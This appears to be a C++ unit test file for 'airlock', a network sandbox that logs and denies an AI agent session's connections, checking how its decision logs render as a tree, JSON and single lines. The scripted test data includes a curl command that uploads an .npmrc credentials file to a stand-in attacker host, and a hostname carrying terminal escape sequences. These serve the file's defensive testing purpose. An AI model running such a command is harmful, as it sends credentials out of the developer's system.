#include "evidence/story.hpp"
#include "unit/evidence/scripted_log.hpp"

#include <algorithm>

#include <boost/json/parse.hpp>
#include <boost/json/serialize.hpp>
#include <doctest/doctest.h>

using namespace airlock::evidence;
using namespace airlock::record;
namespace json = boost::json;

namespace {

session_log feed_all(std::string_view session, std::string_view text) {
  session_filter f{std::string(session)};
  while (!text.empty()) {
    const auto nl = text.find('\n');
    f.feed(text.substr(0, nl));
    text.remove_prefix(nl == std::string_view::npos ? text.size() : nl + 1);
  }
  auto log = std::move(f).finish();
  log.path = "decisions.jsonl";
  return log;
}

session_log scripted() { return feed_all("sbx-7f3a", airlock::test::scripted_log); }

// Each of `lines` appears in `text`, in this order.
void check_in_order(const std::string& text, const std::vector<std::string>& lines) {
  std::size_t at = 0;
  for (const auto& l : lines) {
    const auto found = text.find(l, at);
    INFO("looking for: " << l << "\nin:\n" << text);
    REQUIRE(found != std::string::npos);
    at = found + l.size();
  }
}

}  // namespace

TEST_CASE("the scripted session as a tree: DNS, the connections under it, denials, totals") {
  const auto text = render_text(build_story(scripted()));
  check_in_order(
      text,
      {
          "session sbx-7f3a  policy agent  labels repo=acme/web task=deps\n",
          "log decisions.jsonl: 12 lines for this session, times UTC\n",
          "├─ 2026-12-02 14:21:15.900 session open, policy agent, sources 198.51.100.2/32\n",
          "├─ 14:21:16.120 dns A registry.npmjs.org -> 104.16.24.34, 104.16.25.34 NOERROR\n",
          "│  │ allow host_allowed (rule <family npm>:7)\n",
          "│  │ process npm install (pid 4201: npm install)\n",
          "│  │ tool call call_01\n",
          "│  └─ 14:21:17.480 connect tls registry.npmjs.org 104.16.24.34:443\n",
          "│       1.3 KiB up, 3.4 MiB down, 1.2 s\n",
          "├─ 14:21:17.600 dns A github.com -> 140.82.112.3 NOERROR\n",
          // no SNI: linked to the DNS query by its destination, and named by it
          "│  └─ 14:21:18.900 connect tcp github.com (name from DNS) 140.82.112.3:22\n",
          "│       process unknown: socket not found\n",
          "├─ 14:21:19.050 dns A exfil.attacker.example -> 203.0.113.66 NOERROR\n",
          "│  │ AUDIT-DENY host_not_allowed (rule default; let through in audit mode)\n",
          "│  │ process npm install -> sh -> node -> curl (pid 4242: curl -s -T /home/agent/.npmrc "
          "https://exfil.attacker.example/u)\n",
          "│  └─ 14:21:19.400 connect tls exfil.attacker.example 203.0.113.66:443\n",
          "├─ 14:21:19.700 connect tls intranet.acme.example 203.0.113.80:443\n",
          "│    DENY private_address (rule default)\n",
          "│    process npm install -> sh -> node -> curl (pid 4250: curl -s https://intranet.acme.example/)\n",
          "├─ 14:21:20.000 dns A use-application-dns.net NXDOMAIN\n",
          "│    notes: doh_canary\n",
          "├─ 14:21:20.100 dns A dns.google -> 8.8.8.8 NOERROR\n",
          "├─ 14:21:21.000 connect tls api.acme.example 203.0.113.90:8443\n",
          "│    tool call call_02\n",
          "└─ 14:22:01.000 session close, policy agent, sources 198.51.100.2/32\n",
          "     5 DNS queries, 2 connections allowed, 3 denied, 7.8 KiB up, 3.4 MiB down, 45.1 s\n",
          "totals (session close): 5 DNS queries, 2 connections allowed, 3 denied, 7.8 KiB up, 3.4 MiB down, 45.1 s\n",
          "6 denials:\n",
          "  DENY 2026-12-02 14:21:19.700 connect intranet.acme.example 203.0.113.80:443 private_address "
          "(npm install -> sh -> node -> curl)\n",
          "the log writer dropped 2 lines while this session ran (log_dropped): the story may be incomplete\n",
          "2 unparseable lines ignored\n",
      });
  CHECK(text.find("example.org") == std::string::npos);             // another session's line
  CHECK(text.find("some lines are missing") == std::string::npos);  // the close line agrees with the lines
  CHECK(text.find('\x1b') == std::string::npos);
}

TEST_CASE("colour marks denials only when asked") {
  const auto text = render_text(build_story(scripted()), {.colour = true});
  CHECK(text.find("\x1b[1;31mDENY\x1b[0m private_address") != std::string::npos);
  CHECK(text.find("\x1b[1;33mAUDIT-DENY\x1b[0m") != std::string::npos);
}

TEST_CASE("the tree's shape: connections under their DNS query, totals from the close line") {
  const auto s = build_story(scripted());
  REQUIRE(s.steps.size() == 9);
  CHECK(s.steps[1].ev.name == "registry.npmjs.org");
  REQUIRE(s.steps[1].children.size() == 1);
  CHECK(s.steps[1].children[0].ev.conn == 1u);
  REQUIRE(s.steps[2].children.size() == 1);
  CHECK(s.steps[2].children[0].name == "github.com");
  CHECK(s.steps[2].children[0].name_from_dns);
  CHECK(s.steps[4].children.empty());  // intranet: no DNS line gave its address
  REQUIRE(s.closed);
  CHECK(*s.closed == totals{5, 2, 3, 7948, 3575968, 45100});
  CHECK(s.counted == totals{5, 2, 3, 7948, 3575968, 45100});
  CHECK(s.denials().size() == 6);
  CHECK(s.unparseable == 2);
  CHECK(s.dropped == 2);
}

TEST_CASE("--json: the same tree, each step carrying its log line as written") {
  const auto s = build_story(scripted());
  const auto text = json::serialize(to_json(s));
  const auto doc = json::parse(text);  // what a tool reads back
  const auto& o = doc.as_object();
  CHECK(o.at("session") == "sbx-7f3a");
  CHECK(o.at("labels").as_object().at("task") == "deps");
  const auto& steps = o.at("steps").as_array();
  REQUIRE(steps.size() == s.steps.size());
  for (std::size_t i = 0; i < steps.size(); ++i) {
    CHECK(steps[i].at("line") == json::value(s.steps[i].ev.line));
    CHECK(steps[i].at("children").as_array().size() == s.steps[i].children.size());
  }
  const auto& ssh = steps[2].at("children").as_array()[0];
  CHECK(ssh.at("name") == "github.com");
  CHECK(ssh.at("name_from_dns") == true);
  CHECK(ssh.at("line").at("name").is_null());  // the line itself is untouched
  CHECK(ssh.at("lineage").is_null());          // process unknown
  CHECK(steps[3].at("children").as_array()[0].at("lineage") == "npm install -> sh -> node -> curl");
  CHECK(o.at("totals_from") == "session_close");
  CHECK(o.at("totals").at("connections_denied") == 3);
  CHECK(o.at("denials").as_array().size() == 6);
  CHECK(o.at("unparseable_lines") == 2);
  CHECK(o.at("dropped_lines") == 2);
  // Serialising what was read back gives the same document.
  CHECK(json::serialize(doc) == text);
}

TEST_CASE("without a close line the totals are counted, and said to be") {
  const auto s = build_story(feed_all(
      "s",
      R"({"ts":"2026-12-02T10:00:00.000000Z","event":"dns","session":"s","name":"a.test","verdict":"allow","reason":"host_allowed","rule":"p.yaml:3","qtype":"A","rcode":"NOERROR","answers":["203.0.113.5"]}
{"ts":"2026-12-02T10:00:02.500000Z","event":"connect","session":"s","name":"a.test","dst":"203.0.113.5:443","proto":"tls","verdict":"allow","reason":"host_allowed","rule":"p.yaml:3","conn":1,"bytes_up":10,"bytes_down":20,"duration_ms":2000})"));
  CHECK(!s.closed);
  CHECK(s.counted == totals{1, 1, 0, 10, 20, 2500});
  const auto text = render_text(s);
  CHECK(text.find("totals (from the lines; no session close line): 1 DNS query, 1 connection allowed, 0 denied") !=
        std::string::npos);
  CHECK(text.find("no denials") != std::string::npos);
}

TEST_CASE("a close line that counts more than the log holds says lines are missing") {
  const auto s = build_story(feed_all(
      "s",
      R"({"ts":"2026-12-02T10:00:00.000000Z","event":"dns","session":"s","name":"a.test","verdict":"allow","reason":"host_allowed","rule":"p.yaml:3","qtype":"A","rcode":"NOERROR","answers":[]}
{"ts":"2026-12-02T10:00:09.000000Z","event":"session","session":"s","action":"close","policy":"p","sources":[],"verdict":null,"reason":null,"rule":null,"dns_queries":4,"connections_allowed":0,"connections_denied":0,"bytes_up":0,"bytes_down":0,"duration_ms":9000})"));
  CHECK(render_text(s).find("the log's lines count 1 DNS query, 0 connections allowed, 0 denied") != std::string::npos);
}

TEST_CASE("a connection links to the DNS answer given before it started, preferring its own name") {
  // Two names share a CDN address; the connection to b.test goes under b.test's query even
  // though a.test's came later in the log, and not under c.test's, asked after it began.
  const auto s = build_story(feed_all(
      "s",
      R"({"ts":"2026-12-02T10:00:00.000000Z","event":"dns","session":"s","name":"b.test","verdict":"allow","qtype":"A","answers":["203.0.113.5"]}
{"ts":"2026-12-02T10:00:00.100000Z","event":"dns","session":"s","name":"a.test","verdict":"allow","qtype":"A","answers":["203.0.113.5"]}
{"ts":"2026-12-02T10:00:01.000000Z","event":"dns","session":"s","name":"c.test","verdict":"allow","qtype":"A","answers":["203.0.113.5"]}
{"ts":"2026-12-02T10:00:02.000000Z","event":"connect","session":"s","name":"b.test","dst":"203.0.113.5:443","verdict":"allow","conn":1,"duration_ms":1500}
{"ts":"2026-12-02T10:00:03.000000Z","event":"connect","session":"s","name":null,"dst":"203.0.113.5:443","verdict":"allow","conn":2,"duration_ms":1500})"));
  REQUIRE(s.steps.size() == 3);
  REQUIRE(s.steps[0].children.size() == 1);
  CHECK(s.steps[0].children[0].ev.conn == 1u);
  // No name of its own: the latest query answered before it began (10:00:01.5).
  REQUIRE(s.steps[2].children.size() == 1);
  CHECK(s.steps[2].children[0].name == "c.test");
}

TEST_CASE("a daemon restart (session open) forgets earlier answers") {
  const auto s = build_story(feed_all(
      "s",
      R"({"ts":"2026-12-02T10:00:00.000000Z","event":"dns","session":"s","name":"a.test","verdict":"allow","qtype":"A","answers":["203.0.113.5"]}
{"ts":"2026-12-02T10:00:01.000000Z","event":"session","session":"s","action":"open","policy":"p","sources":[]}
{"ts":"2026-12-02T10:00:02.000000Z","event":"connect","session":"s","name":null,"dst":"203.0.113.5:443","verdict":"deny","reason":"no_name","conn":1})"));
  REQUIRE(s.steps.size() == 3);
  CHECK(s.steps[0].children.empty());
  CHECK(s.steps[2].name.empty());
  CHECK(render_text(s).find("connect (no name) 203.0.113.5:443") != std::string::npos);
}

TEST_CASE("inspected HTTP requests go under their connection") {
  const auto s = build_story(feed_all(
      "s",
      R"({"ts":"2026-12-02T10:00:01.000000Z","event":"http","session":"s","name":"a.test","dst":"203.0.113.5:443","verdict":"allow","reason":"host_allowed","conn":7}
{"ts":"2026-12-02T10:00:01.100000Z","event":"http","session":"s","name":"a.test","dst":"203.0.113.5:443","verdict":"deny","reason":"redirect_not_allowed","conn":7}
{"ts":"2026-12-02T10:00:02.000000Z","event":"connect","session":"s","name":"a.test","dst":"203.0.113.5:443","verdict":"allow","conn":7})"));
  REQUIRE(s.steps.size() == 1);
  CHECK(s.steps[0].children.size() == 2);
  CHECK(s.denials().size() == 1);
}

TEST_CASE("a hostile name cannot write escape sequences to the terminal") {
  const auto s = build_story(feed_all(
      "s",
      R"({"event":"connect","session":"s","name":"a\u001b]0;pwned\u0007.test","dst":"203.0.113.5:443","verdict":"deny","reason":"invalid_name"})"));
  const auto text = render_text(s);
  CHECK(text.find('\x1b') == std::string::npos);
  CHECK(text.find('\x07') == std::string::npos);
  CHECK(text.find("a\\x1b]0;pwned\\x07.test") != std::string::npos);
}

TEST_CASE("a connection whose name is not the one its DNS query asked for says so") {
  const auto s = build_story(feed_all(
      "s",
      R"({"ts":"2026-12-02T10:00:00.000000Z","event":"dns","session":"s","name":"a.test","verdict":"allow","qtype":"A","answers":["203.0.113.5"]}
{"ts":"2026-12-02T10:00:02.000000Z","event":"connect","session":"s","name":"b.test","dst":"203.0.113.5:443","verdict":"allow","conn":1})"));
  REQUIRE(s.steps.size() == 1);
  REQUIRE(s.steps[0].children.size() == 1);
  CHECK(s.steps[0].children[0].name_differs_from_dns);
  CHECK(render_text(s).find("     not the name the DNS query above asked for\n") != std::string::npos);
}

TEST_CASE("schema 2: a connection's decision, its requests and its close line are one step, joined by conn") {
  const auto s = build_story(feed_all(
      "s",
      R"({"ts":"2026-12-02T10:00:00.000000Z","schema":2,"event":"session","session":"s","action":"open","policy":"p","sources":[]}
{"ts":"2026-12-02T10:00:01.000000Z","schema":2,"event":"dns","session":"s","name":"a.test","verdict":"allow","reason":"host_allowed","qtype":"A","answers":["203.0.113.5"]}
{"ts":"2026-12-02T10:00:02.000000Z","schema":2,"event":"connect","session":"s","tool_call":"call-41","name":"a.test","dst":"203.0.113.5:443","proto":"tls","verdict":"allow","reason":"host_allowed","rule":"airlock.yaml:3","conn":7,"duration_ms":1,"notes":["inspected"]}
{"ts":"2026-12-02T10:00:03.000000Z","schema":2,"event":"http","session":"s","tool_call":"call-41","name":"a.test","dst":"203.0.113.5:443","verdict":"allow","reason":"host_allowed","conn":7,"method":"GET","path":"/x","status":200}
{"ts":"2026-12-02T10:00:09.000000Z","schema":2,"event":"close","session":"s","tool_call":"call-42","name":"a.test","dst":"203.0.113.5:443","proto":"tls","verdict":"allow","reason":"host_allowed","conn":7,"bytes_up":100,"bytes_down":2048,"duration_ms":7000,"notes":["client_reset"]}
{"ts":"2026-12-02T10:00:10.000000Z","schema":2,"event":"connect","session":"s","name":"a.test","dst":"203.0.113.5:443","proto":"tls","verdict":"allow","reason":"host_allowed","conn":8,"duration_ms":1}
{"ts":"2026-12-02T10:00:11.000000Z","schema":2,"event":"close","session":"s","name":"a.test","dst":"203.0.113.5:443","proto":"tls","verdict":"deny","reason":"limit_exceeded","conn":8,"bytes_up":70000,"bytes_down":0,"duration_ms":1000,"notes":["limit:session_bytes_up","cut_open_connection"]}
{"ts":"2026-12-02T10:00:12.000000Z","schema":2,"event":"connect","session":"s","name":"a.test","dst":"203.0.113.5:443","proto":"tls","verdict":"allow","reason":"host_allowed","conn":9,"duration_ms":1})"));
  REQUIRE(s.steps.size() == 2);  // the session open, the DNS query (its connections under it)
  const auto& dns = s.steps[1];
  REQUIRE(dns.children.size() == 3);
  const auto& first = dns.children[0];
  REQUIRE(first.closed.has_value());
  CHECK(first.closed->bytes_down == 2048u);
  REQUIRE(first.children.size() == 1);  // its request, written after its decision
  CHECK(s.counted.connections_allowed == 3);
  CHECK(s.counted.connections_denied == 0);
  CHECK(s.counted.bytes_up == 70100);
  // The cut is a denial, said by its close line.
  REQUIRE(s.denials().size() == 1);
  CHECK(s.denials()[0]->denial()->reason == "limit_exceeded");
  const auto text = render_text(s);
  check_in_order(text,
                 {"connect tls a.test 203.0.113.5:443\n", "allow host_allowed (rule airlock.yaml:3)\n",
                  "tool call call-41\n", "notes: inspected\n", "closed 10:00:09.000: 100 B up, 2.0 KiB down, 7.0 s\n",
                  "by then tool call call-42\n", "notes: client_reset\n", "GET /x -> 200\n",
                  "closed 10:00:11.000: 68.4 KiB up, 0 B down, 1.0 s; DENY limit_exceeded (cut on its way)\n",
                  "no close line: open when the log ends, or airlock stopped before it closed\n", "1 denial:\n",
                  "DENY 2026-12-02 10:00:11.000 close a.test 203.0.113.5:443 limit_exceeded\n"});
  const auto j = to_json(s);
  CHECK(j.at("steps").at(1).at("children").at(0).at("close").at("bytes_down").as_int64() == 2048);
  CHECK(j.at("steps").at(1).at("children").at(2).at("close").is_null());
}

TEST_CASE("conn ids restart with the daemon: a close joins the connection of its own run") {
  const auto s = build_story(feed_all(
      "s",
      R"({"ts":"2026-12-02T10:00:00.000000Z","schema":2,"event":"session","session":"s","action":"open","policy":"p","sources":[]}
{"ts":"2026-12-02T10:00:01.000000Z","schema":2,"event":"connect","session":"s","dst":"203.0.113.5:22","verdict":"allow","conn":1}
{"ts":"2026-12-02T10:00:05.000000Z","schema":2,"event":"session","session":"s","action":"open","policy":"p","sources":[]}
{"ts":"2026-12-02T10:00:06.000000Z","schema":2,"event":"connect","session":"s","dst":"203.0.113.6:22","verdict":"allow","conn":1}
{"ts":"2026-12-02T10:00:07.000000Z","schema":2,"event":"close","session":"s","dst":"203.0.113.6:22","verdict":"allow","conn":1,"bytes_up":5,"bytes_down":6,"duration_ms":1000})"));
  REQUIRE(s.steps.size() == 4);
  CHECK_FALSE(s.steps[1].closed.has_value());  // the first run's connection 1 never closed
  REQUIRE(s.steps[3].closed.has_value());
  CHECK(s.steps[3].closed->bytes_up == 5u);
}

TEST_CASE("one line at a time, as tail shows them: time, session, the step and its details") {
  line_renderer render;
  std::vector<std::string> out;
  std::string_view text = airlock::test::scripted_log;
  while (!text.empty()) {
    const auto nl = text.find('\n');
    if (auto ev = parse_event(text.substr(0, nl))) out.push_back(render.render(*ev));
    text.remove_prefix(nl == std::string_view::npos ? text.size() : nl + 1);
  }
  REQUIRE(out.size() >= 10);
  CHECK(out[0] == "2026-12-02 14:21:15.900 sbx-7f3a session open, policy agent, sources 198.51.100.2/32\n");
  CHECK(out[1] ==
        "14:21:16.010 other dns A example.org -> 203.0.113.7 NOERROR; allow host_allowed (rule airlock.yaml:20)\n");
  const auto exfil = std::find_if(out.begin(), out.end(), [](const auto& l) { return l.starts_with("14:21:19.050"); });
  REQUIRE(exfil != out.end());
  check_in_order(*exfil, {"14:21:19.050 sbx-7f3a dns A exfil.attacker.example -> 203.0.113.66 NOERROR",
                          "; AUDIT-DENY host_not_allowed (rule default; let through in audit mode)",
                          "; process npm install -> sh -> node -> curl (pid 4242: curl -s -T"});
  // A decision alone says nothing of what came after it (its close line will).
  const auto npm = std::find_if(out.begin(), out.end(), [](const auto& l) { return l.starts_with("14:21:17.480"); });
  REQUIRE(npm != out.end());
  CHECK(*npm ==
        "14:21:17.480 sbx-7f3a connect tls registry.npmjs.org 104.16.24.34:443; allow host_allowed (rule <family "
        "npm>:7); process npm install (pid 4201: npm install)\n");
  for (const auto& line : out) {
    CHECK(line.ends_with("\n"));
    CHECK(std::count(line.begin(), line.end(), '\n') == 1);
  }
}
